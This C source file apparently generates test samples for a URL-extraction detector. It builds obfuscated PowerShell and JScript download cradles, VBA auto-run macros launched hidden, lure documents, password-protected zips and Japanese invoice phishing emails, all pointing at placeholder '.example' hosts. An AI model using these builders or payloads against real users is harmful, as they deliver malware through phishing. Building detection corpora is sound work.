/* make.c - samples of any shape: a script that asks for URLs, in a script file, a document or a
 * shortcut of scripts, perhaps in an archive, perhaps in a mail. */
#include "base/enc.h"
#include "base/utf.h"
#include "oforms/oforms.h"
#include "samples.h"
#include "support/mail_writer.h"
#include "support/office_writer.h"
#include "support/oforms_writer.h"
#include "support/vba_writer.h"
#include "support/zip_writer.h"

#include <stdio.h>

#define PIECE 180u /* of a long text in one statement */

static const char *const hosts[] = { "hana-sato", "kissaten-aoi", "yamabiko-cycle", "minato-kogyo",
    "sakura-shoji", "kita-nouen", "takumi-dental", "umi-no-ie" };
static const char *const folders[] = { "wp-content", "wp-includes", "cgi-bin", "images", "old",
    "shop/inc", "css" };

static void choose_urls(struct chance *chance, struct sample *sample)
{
    size_t count = 1 + chance_next(chance, 5);

    for (size_t i = 0; i < count; i++) {
        (void)snprintf(sample->urls[i], sizeof sample->urls[i], "%s://%s%u.example/%s/%x/",
                chance_next(chance, 3) == 0 ? "https" : "http",
                hosts[chance_next(chance, HN_COUNT_OF(hosts))], (unsigned)chance_next(chance, 90),
                folders[chance_next(chance, HN_COUNT_OF(folders))],
                (unsigned)chance_next(chance, 1u << 28));
    }
    sample->url_count = count;
}

static void add_shape(struct sample *sample, const char *shape)
{
    size_t len = strlen(sample->shape);

    (void)snprintf(
            sample->shape + len, sizeof sample->shape - len, "%s%s", len > 0 ? " < " : "", shape);
}

/* "a@b@c" */
static void joined_urls(const struct sample *sample, struct hn_buf *out)
{
    for (size_t i = 0; i < sample->url_count; i++) {
        if (i > 0)
            hn_buf_add_char(out, '@');
        hn_buf_add_cstr(out, sample->urls[i]);
    }
}

/* ---- Scripts ---- */

/* The list as one text, or as Emotet's of December 2020: pieces added to a list, decoded in a loop.
 */
static void powershell_list(struct chance *chance, const struct sample *sample, struct hn_buf *out)
{
    struct hn_buf urls = { 0 };
    unsigned key = 1 + chance_next(chance, 20);

    if (chance_next(chance, 3) > 0) {
        joined_urls(sample, &urls);
        hn_buf_add_lit(out, "$u=");
        hide_powershell(out, chance, hn_buf_text(&urls));
        hn_buf_add_cstr(out, chance_next(chance, 2) == 0 ? ".Split('@');" : " -split '@';");
        hn_buf_deinit(&urls);
        return;
    }
    hn_buf_add_lit(out, "$u=@();");
    for (size_t i = 0; i < sample->url_count; i++) {
        hn_buf_add_lit(out, "$t=@();");
        for (const char *c = sample->urls[i]; *c != '\0'; c++)
            hn_buf_addf(out, "$t+=%u;", (unsigned)(uint8_t)*c + key);
        hn_buf_addf(out, "$s='';foreach($n in $t){$s+=[char]($n-%u)};$u+=$s;", key);
    }
}

static void powershell_script(
        struct chance *chance, const struct sample *sample, struct hn_buf *out)
{
    static const char *const ways[] = { "$w.DownloadFile($i,$f)",
        "Invoke-WebRequest -Uri $i -OutFile $f", "iwr $i -OutFile $f",
        "$d=$w.DownloadData($i);[IO.File]::WriteAllBytes($f,$d)" };

    powershell_list(chance, sample, out);
    hn_buf_add_lit(out, "$w=New-Object ");
    hide_powershell(out, chance, HN_TEXT("Net.WebClient"));
    hn_buf_addf(out, ";$f=$env:TEMP+'\\%x.dll';foreach($i in $u){try{%s;break}catch{}}",
            (unsigned)chance_next(chance, 1u << 20), ways[chance_next(chance, HN_COUNT_OF(ways))]);
}

static void encoded(struct hn_buf *script)
{
    struct hn_buf wide = { 0 };
    struct hn_buf command = { 0 };

    hn_utf8_to_utf16le(&wide, hn_buf_text(script));
    hn_base64_encode(&command, hn_bytes_of(wide.ptr, wide.len));
    hn_buf_reset(script);
    hn_buf_add_text(script, hn_buf_text(&command));
    hn_buf_deinit(&wide);
    hn_buf_deinit(&command);
}

/* iex of another text, up to twice. */
static void powershell_layers(struct chance *chance, struct hn_buf *script)
{
    static const char *const ways[] = { "iex (%s)", "Invoke-Expression(%s)", "%s|iex",
        "&('i'+'ex')(%s)", ".($env:ComSpec[4,24,25]-join'')(%s)" };

    for (uint32_t i = chance_next(chance, 3); i > 0; i--) {
        const char *way = ways[chance_next(chance, HN_COUNT_OF(ways))];
        const char *hole = strstr(way, "%s");
        struct hn_buf outer = { 0 };

        hn_buf_add(&outer, way, (size_t)(hole - way));
        hide_powershell(&outer, chance, hn_buf_text(script));
        hn_buf_add_cstr(&outer, hole + 2);
        hn_buf_deinit(script);
        *script = outer;
    }
}

static void command_line(struct chance *chance, const struct sample *sample, struct hn_buf *out)
{
    static const char *const switches[] = { "-enc", "-e", "-EncodedCommand", "-ec", "/e", "-eNcO" };
    static const char *const others[] = { "", "-w hidden ", "-nop -w 1 ",
        "-NoP -NonI -W Hidden -Exec Bypass " };
    struct hn_buf script = { 0 };

    powershell_script(chance, sample, &script);
    powershell_layers(chance, &script);
    encoded(&script);
    hn_buf_addf(out, "powershell %s%s ", others[chance_next(chance, HN_COUNT_OF(others))],
            switches[chance_next(chance, HN_COUNT_OF(switches))]);
    hn_buf_add_text(out, hn_buf_text(&script));
    hn_buf_deinit(&script);
}

static void jscript_script(struct chance *chance, const struct sample *sample, struct hn_buf *out)
{
    struct hn_buf urls = { 0 };

    joined_urls(sample, &urls);
    hn_buf_add_lit(out, "var u=");
    hide_jscript(out, chance, hn_buf_text(&urls));
    hn_buf_add_lit(out, ".split('@');var h=new ActiveXObject(");
    hide_jscript(out, chance, HN_TEXT("MSXML2.XMLHTTP"));
    hn_buf_add_lit(out,
            ");for(var i=0;i<u.length;i++){try{h.open('GET',u[i],false);h.send();if(h.status"
            "==200){var s=new ActiveXObject('ADODB.Stream');s.Open();s.Type=1;s.Write(h."
            "responseBody);s.SaveToFile('C:\\\\Users\\\\Public\\\\a.dll',2);}}catch(e){}}");
    hn_buf_deinit(&urls);
}

/* ---- Macros ---- */

static void macro_source(struct chance *chance, struct stores *stores, struct hn_text command,
        const char *entry, struct hn_buf *out)
{
    static const char *const ways[] = {
        "    CreateObject(\"WScript.Shell\").Run c, 0\r\n",
        "    Shell c, 0\r\n",
        "    GetObject(\"winmgmts:root\\cimv2\").Get(\"Win32_Process\").Create c, Null, Null, "
        "p\r\n",
        "    Set o = CreateObject(\"Shell.Application\")\r\n    o.ShellExecute \"cmd\", \"/c \" & "
        "c, "
        "\"\", \"\", 0\r\n",
    };

    hn_buf_addf(out, "Sub %s()\r\n    c = g()\r\n", entry);
    if (chance_next(chance, 2) == 0)
        hn_buf_add_lit(out, "    If 7 * 6 = 41 Then Exit Sub\r\n");
    hn_buf_add_cstr(out, ways[chance_next(chance, HN_COUNT_OF(ways))]);
    hn_buf_add_lit(out, "End Sub\r\nFunction g()\r\n    Dim s As String\r\n");
    while (command.len > 0) {
        hn_buf_add_lit(out, "    s = s & ");
        hide_vba(out, chance, stores, hn_text_sub(command, 0, PIECE));
        hn_buf_add_lit(out, "\r\n");
        command = hn_text_sub(command, PIECE, SIZE_MAX);
    }
    hn_buf_add_lit(out, "    g = s\r\nEnd Function\r\n");
}

struct macros {
    const struct stores *stores;
    const char *parent; /* "Macros" or "" */
    const char *source;
    const char *document; /* name of the module of the document */
};

static void add_macros(void *ctx, struct cfb_writer *cfb)
{
    const struct macros *macros = ctx;
    struct vba_writer_module modules[] = {
        { .name = macros->document, .type = VBA_WRITER_DOCUMENT, .source = macros->source },
        { .name = "UserForm1", .type = VBA_WRITER_FORM, .source = "" },
    };
    struct vba_writer_project project = { .name = "Project", .modules = modules, .count = 2 };
    struct oforms_writer_control controls[STORES_MAX] = { { .name = NULL } };
    struct oforms_writer_form form = { .caption = "Form", .controls = controls };
    char path[64];

    for (size_t i = 0; i < macros->stores->count; i++) {
        struct oforms_writer_control *control = &controls[form.count];
        char kind = macros->stores->items[i].kind;

        if (kind == 'v')
            continue;
        control->kind = kind == 'f' ? OFORMS_TEXT_BOX : OFORMS_LABEL;
        control->name = macros->stores->items[i].name;
        control->value = kind == 'f' ? macros->stores->items[i].value : NULL;
        control->caption = kind == 'c' ? macros->stores->items[i].value : NULL;
        control->tag = kind == 't' ? macros->stores->items[i].value : NULL;
        form.count++;
    }
    vba_writer_put(cfb, macros->parent, &project);
    (void)snprintf(path, sizeof path, "%s%sUserForm1", macros->parent,
            macros->parent[0] != '\0' ? "/" : "");
    oforms_writer_put(cfb, path, &form);
}

static size_t variables_of(const struct stores *stores, struct office_writer_pair pairs[STORES_MAX])
{
    size_t count = 0;

    for (size_t i = 0; i < stores->count; i++) {
        if (stores->items[i].kind != 'v')
            continue;
        pairs[count].name = stores->items[i].name;
        pairs[count].value = stores->items[i].value;
        count++;
    }
    return count;
}

static void write_doc(struct macros *macros, struct hn_buf *out)
{
    struct office_writer_pair variables[STORES_MAX];
    struct office_writer_doc doc = { .text = "Please enable the content of this document.\r",
        .variables = variables,
        .variable_count = variables_of(macros->stores, variables),
        .add = add_macros,
        .ctx = macros };

    office_writer_doc(&doc, out);
}

static void write_docm(struct macros *macros, struct hn_buf *out)
{
    static const char relations[] =
            "<?xml version=\"1.0\"?><Relationships "
            "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship "
            "Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
            "officeDocument\" Target=\"word/document.xml\"/></Relationships>";
    static const char document_relations[] =
            "<?xml version=\"1.0\"?><Relationships "
            "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship "
            "Id=\"r1\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" "
            "Target=\"vbaProject.bin\"/><Relationship Id=\"r2\" "
            "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings\" "
            "Target=\"settings.xml\"/></Relationships>";
    static const char document[] =
            "<?xml version=\"1.0\"?><w:document "
            "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p>"
            "<w:r><w:t>Please enable the content.</w:t></w:r></w:p></w:body></w:document>";
    struct cfb_writer *cfb = cfb_writer_new(3);
    struct hn_buf project = { 0 };
    struct hn_buf settings = { 0 };

    add_macros(macros, cfb);
    cfb_writer_finish(cfb, &project);
    cfb_writer_free(cfb);
    hn_buf_add_lit(&settings,
            "<?xml version=\"1.0\"?><w:settings "
            "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:docVars>");
    for (size_t i = 0; i < macros->stores->count; i++) {
        if (macros->stores->items[i].kind != 'v')
            continue;
        hn_buf_addf(&settings, "<w:docVar w:name=\"%s\" w:val=\"", macros->stores->items[i].name);
        for (const char *c = macros->stores->items[i].value; *c != '\0'; c++) {
            if (strchr("<>&\"", *c) != NULL) {
                hn_buf_addf(&settings, "&#%u;", (unsigned)(uint8_t)*c);
            } else {
                hn_buf_add_char(&settings, *c);
            }
        }
        hn_buf_add_lit(&settings, "\"/>");
    }
    hn_buf_add_lit(&settings, "</w:docVars></w:settings>");
    hn_buf_add_char(&settings, '\0');
    {
        const struct office_writer_part parts[] = {
            { .name = "_rels/.rels", .text = relations },
            { .name = "word/document.xml", .text = document },
            { .name = "word/_rels/document.xml.rels", .text = document_relations },
            { .name = "word/settings.xml", .text = settings.ptr },
            { .name = "word/vbaProject.bin", .bytes = hn_bytes_of(project.ptr, project.len) },
        };

        office_writer_package(parts, HN_COUNT_OF(parts), out);
    }
    hn_buf_deinit(&settings);
    hn_buf_deinit(&project);
}

/* ---- What holds it ---- */

static void in_zip(struct sample *sample, struct chance *chance, const char *password)
{
    struct zip_writer zip = { .count = 0 };
    struct zip_writer_entry entry = { .name = hn_text_cstr(sample->name),
        .data = hn_bytes_of(sample->bytes.ptr, sample->bytes.len),
        .deflate = true,
        .password = password,
        .aes_strength = (uint8_t)(password != NULL && chance_next(chance, 2) == 0 ? 3 : 0) };
    struct hn_bytes archive;
    struct hn_buf out = { 0 };

    zip_writer_add(&zip, &entry);
    archive = zip_writer_end(&zip, true);
    hn_buf_add(&out, archive.ptr, archive.len);
    zip_writer_deinit(&zip);
    hn_buf_deinit(&sample->bytes);
    sample->bytes = out;
    (void)snprintf(
            sample->name, sizeof sample->name, "order%u.zip", (unsigned)chance_next(chance, 10000));
    add_shape(sample, password != NULL ? "encrypted zip" : "zip");
}

static void in_mail(struct sample *sample, struct chance *chance, const char *password)
{
    static const enum mail_writer_charset charsets[] = { MAIL_WRITER_UTF8, MAIL_WRITER_ISO_2022_JP,
        MAIL_WRITER_SHIFT_JIS };
    struct mail_writer *mail = mail_writer_new(charsets[chance_next(chance, 3)]);
    struct hn_buf out = { 0 };
    char text[256];

    mail_writer_header(mail, "From", "佐藤 <sato@hinomi-works.example>");
    mail_writer_header(mail, "To", "k.ogawa@hinomi-works.example");
    mail_writer_header(mail, "Subject", "請求書送付のお願い");
    mail_writer_header(mail, "Date", "Wed, 14 Oct 2026 08:52:00 +0900");
    mail_writer_header(mail, "Message-ID", "<1@mx.partner.example>");
    (void)snprintf(text, sizeof text,
            password != NULL ? "お世話になっております。\n添付をご確認ください。\nパスワード：%s\n"
                             : "お世話になっております。\n添付をご確認ください。%s\n",
            password != NULL ? password : "");
    mail_writer_text(mail, text);
    mail_writer_attach(mail, sample->name, "application/octet-stream",
            hn_bytes_of(sample->bytes.ptr, sample->bytes.len));
    mail_writer_finish(mail, &out);
    mail_writer_free(mail);
    hn_buf_deinit(&sample->bytes);
    sample->bytes = out;
    (void)snprintf(sample->name, sizeof sample->name, "mail.eml");
    add_shape(sample, "mail");
}

/* ---- All of it ---- */

static void make_document(struct chance *chance, struct sample *sample)
{
    static const char *const entries[] = { "AutoOpen", "Document_Open", "autoopen" };
    struct stores stores = { .count = 0 };
    struct hn_buf command = { 0 };
    struct hn_buf source = { 0 };
    struct macros macros = { .stores = &stores, .document = "ThisDocument" };
    bool package = chance_next(chance, 2) == 0;

    command_line(chance, sample, &command);
    macro_source(chance, &stores, hn_buf_text(&command),
            entries[chance_next(chance, HN_COUNT_OF(entries))], &source);
    hn_buf_add_char(&source, '\0');
    macros.source = source.ptr;
    macros.parent = package ? "" : "Macros";
    (package ? write_docm : write_doc)(&macros, &sample->bytes);
    (void)snprintf(sample->name, sizeof sample->name, package ? "invoice.docm" : "invoice.doc");
    add_shape(sample, package ? "docm" : "doc");
    hn_buf_deinit(&source);
    hn_buf_deinit(&command);
}

static void make_vbscript(struct chance *chance, struct sample *sample)
{
    struct stores stores = { .none = true };
    struct hn_buf command = { 0 };
    struct hn_buf source = { 0 };

    command_line(chance, sample, &command);
    macro_source(chance, &stores, hn_buf_text(&command), "run_it", &source);
    hn_buf_add_lit(&sample->bytes, "On Error Resume Next\r\nrun_it\r\n");
    for (struct hn_text rest = hn_buf_text(&source), line; hn_text_line(&rest, &line);) {
        /* VBScript has no types, and Shell is no function of it. */
        if (hn_text_find(line, HN_TEXT("As String"), 0) != SIZE_MAX)
            line = HN_TEXT("    Dim s");
        if (hn_text_starts(line, HN_TEXT("    Shell c")))
            line = HN_TEXT("    CreateObject(\"WScript.Shell\").Run c, 0");
        hn_buf_add_text(&sample->bytes, line);
        hn_buf_add_lit(&sample->bytes, "\r\n");
    }
    (void)snprintf(sample->name, sizeof sample->name, "invoice.vbs");
    add_shape(sample, "vbs");
    hn_buf_deinit(&source);
    hn_buf_deinit(&command);
}

static void make_workbook(struct chance *chance, struct sample *sample)
{
    sample_workbook(chance, sample, &sample->bytes);
    (void)snprintf(sample->name, sizeof sample->name, "invoice.slk");
    add_shape(sample, "slk");
}

static void make_script(struct chance *chance, struct sample *sample, uint32_t kind)
{
    if (kind == 0) {
        powershell_script(chance, sample, &sample->bytes);
        powershell_layers(chance, &sample->bytes);
        (void)snprintf(sample->name, sizeof sample->name, "update.ps1");
        add_shape(sample, "ps1");
        return;
    }
    jscript_script(chance, sample, &sample->bytes);
    (void)snprintf(sample->name, sizeof sample->name, "invoice.js");
    add_shape(sample, "js");
}

void sample_make(uint64_t seed, struct sample *ret_sample)
{
    static const char *const passwords[] = { "1014", "himitsu7", "Qx-99231" };
    struct chance chance = { .state = seed * UINT64_C(0x9E3779B97F4A7C15) + 1 };
    uint32_t kind;
    uint32_t wrap;
    const char *password;

    for (int i = 0; i < 4; i++)
        (void)chance_next(&chance, 2);
    *ret_sample = (struct sample){ .url_count = 0 };
    choose_urls(&chance, ret_sample);
    kind = chance_next(&chance, 7);
    if (kind < 2) {
        make_script(&chance, ret_sample, kind);
    } else if (kind == 2) {
        make_vbscript(&chance, ret_sample);
    } else if (kind == 6) {
        make_workbook(&chance, ret_sample);
    } else {
        make_document(&chance, ret_sample);
    }
    wrap = chance_next(&chance, 4);
    password = wrap == 3 ? passwords[chance_next(&chance, 3)] : NULL;
    if (wrap >= 2)
        in_zip(ret_sample, &chance, password);
    if (wrap == 1 || wrap == 3)
        in_mail(ret_sample, &chance, password);
}

void sample_deinit(struct sample *sample)
{
    hn_buf_deinit(&sample->bytes);
}
